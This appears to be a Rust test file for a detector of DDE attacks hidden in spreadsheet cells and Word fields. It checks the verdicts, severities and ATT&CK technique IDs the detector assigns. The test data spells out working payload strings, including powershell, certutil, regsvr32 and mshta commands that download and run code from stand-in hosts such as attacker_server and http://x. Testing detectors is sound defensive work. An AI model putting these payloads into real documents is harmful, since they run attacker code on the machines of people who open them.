//! Commands that were published, in cells and in fields, and those that only test.

use super::*;

/// Spreadsheet specification, section 5.5.
#[test]
fn published_formulas() {
    for (service, topic, item, expected) in [
        ("cmd", "/C calc", "A0", "cmd.exe"),
        ("cmd", " /C calc", "A0", "cmd.exe"),
        ("cmd", " /C notepad", "A1", "cmd.exe"),
        (
            "cmd",
            "/C powershell IEX(wget attacker_server/shell.exe)",
            "A0",
            "cmd.exe",
        ),
        (
            "cmd",
            "/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0",
            "A1",
            "cmd.exe",
        ),
        ("rundll32", "URL.dll,OpenURL calc.exe", "A", "rundll32.exe"),
        (
            "rundll321234567890abcdefghijklmnopqrstuvwxyz",
            "URL.dll,OpenURL calc.exe",
            "A",
            "rundll32.exe",
        ),
        (
            "MSEXCEL",
            "\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe",
            "A1",
            "cmd.exe",
        ),
        (
            "MSEXCEL",
            "\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://x scrobj.dll",
            "",
            "regsvr32.exe",
        ),
        ("\0C\0\0m\0D\0", "/\0c calc.exe", "A", "cmd.exe"),
        (
            "cmd",
            "/k \\..\\..\\..\\Windows\\System32\\calc.exe",
            "A0",
            "cmd.exe",
        ),
        (
            "C:\\Windows\\System32\\mshta",
            "http://x/a.hta",
            "",
            "mshta.exe",
        ),
    ] {
        let finding = dde(service, topic, item);
        assert_eq!(verdict(&finding), Verdict::Malicious, "{service}|{topic}");
        assert_eq!(image(&finding), expected, "{service}|{topic}");
        assert_eq!(finding.severity, Severity::Critical);
        assert_eq!(finding.attack.first(), Some(&"T1559.002"));
        assert!(finding.attack.contains(&"T1204.002"));
    }
}

/// Word specification, section 0.5, idioms P1 to P6 and P10 (decoded).
#[test]
fn published_fields() {
    let decoy = "C:\\Programs\\Microsoft\\Office\\MSWord.exe\\..\\..\\..\\..\\windows\\system32\\";
    let cmd = format!("{decoy}cmd.exe");
    let p3 = format!(
        "{decoy}WindowsPowerShell\\v1.0\\powershell.exe -NoP -sta -NonI -W Hidden IEX \
         (New-Object System.Net.WebClient).DownloadString('http://x/a.ps1'); # "
    );
    let p4 = "/k powershell.exe -w hidden $e=(New-Object System.Net.WebClient)\
              .DownloadString('http://x/e.txt');powershell -enc $e ";
    for (service, topic, item, expected) in [
        (
            "c:\\windows\\system32\\cmd.exe",
            "/k calc.exe",
            "",
            "cmd.exe",
        ),
        (&cmd, "/c calc.exe", "for security reasons", "cmd.exe"),
        (
            &p3,
            "Microsoft Document Security Add-On",
            "",
            "powershell.exe",
        ),
        (&cmd, p4, "", "cmd.exe"),
        (
            &cmd,
            "/k regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll ",
            "",
            "cmd.exe",
        ),
        (
            &cmd,
            "/k certutil -urlcache -split -f http://x/a.exe && a.exe",
            "",
            "cmd.exe",
        ),
        (
            "MSEXCEL\\..\\..\\..\\Windows\\System32\\cmd.exe",
            "/c calc",
            "",
            "cmd.exe",
        ),
        ("mshta", "http://x", "", "mshta.exe"),
    ] {
        let finding = field(service, topic, item);
        assert_eq!(verdict(&finding), Verdict::Malicious, "{service} {topic}");
        assert_eq!(image(&finding), expected, "{service} {topic}");
    }

    let p1 = field("c:\\windows\\system32\\cmd.exe", "/k calc.exe", "");
    assert_eq!(
        p1.command.unwrap().line,
        "c:\\windows\\system32\\cmd.exe /k calc.exe"
    );
    assert_eq!(p1.attack, ["T1559.002", "T1059.003", "T1204.002"]);
    assert_eq!(p1.indicators, []);

    let p2 = field(&cmd, "/c calc.exe", "for security reasons");
    let ids: Vec<_> = p2.techniques.iter().map(|technique| technique.id).collect();
    assert_eq!(ids, [TechniqueId::PromptSpoof, TechniqueId::PathTraversal]);
    assert_eq!(
        p2.techniques[1].after.as_deref(),
        Some("c:\\windows\\system32\\cmd.exe")
    );

    let p3 = field(&p3, "Microsoft Document Security Add-On", "");
    let rules = rules(&p3);
    for rule in [
        "interpreter",
        "path-traversal",
        "remote-address",
        "powershell-features",
    ] {
        assert!(rules.contains(&rule), "{rule}");
    }
    assert_eq!(p3.indicators[0].defanged, "hxxp://x/a.ps1");
    assert_eq!(p3.attack, ["T1559.002", "T1059.001", "T1105", "T1204.002"]);

    let p5 = field(
        &cmd,
        "/k regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll ",
        "",
    );
    assert_eq!(
        p5.attack,
        ["T1559.002", "T1059.003", "T1105", "T1204.002", "T1218.010"]
    );
}

/// P7 and P8: what the evaluator joined is judged like the plain text, and noted.
#[test]
fn evaluated_fields() {
    let mut link = link(Kind::Dde, Carrier::Field);
    link.add_technique(TechniqueId::QuoteCodes);
    link.readings
        .push(reading("C:\\windows\\system32\\cmd.exe", "/c calc.exe", ""));
    let finding = judged(link);
    assert_eq!(rules(&finding), ["interpreter", "evaluated-command"]);
    assert_eq!(finding.score, 100);
    assert!(finding.attack.contains(&"T1027"));
}

/// Word specification, F2, and section 10.1.
#[test]
fn fragments_and_test_programs() {
    assert_eq!(verdict(&field("ünicöde-test", "", "")), Verdict::Clean);
    let cmd = field("cmd", "", "");
    assert_eq!((cmd.score, cmd.severity), (100, Severity::Critical));
    let calc = dde("calc", "x", "y");
    assert_eq!((calc.score, verdict(&calc)), (70, Verdict::Suspicious));
    let net = dde("net", "x", "y");
    assert_eq!((net.score, verdict(&net)), (50, Verdict::Suspicious));
    assert_eq!(
        verdict(&dde("net", "use \\\\h.example\\s", "")),
        Verdict::Malicious
    );
    assert_eq!(
        verdict(&dde("schtasks", "/create /tn x", "")),
        Verdict::Malicious
    );
    assert_eq!(verdict(&dde("foo", "/c x", "y")), Verdict::Suspicious);
}
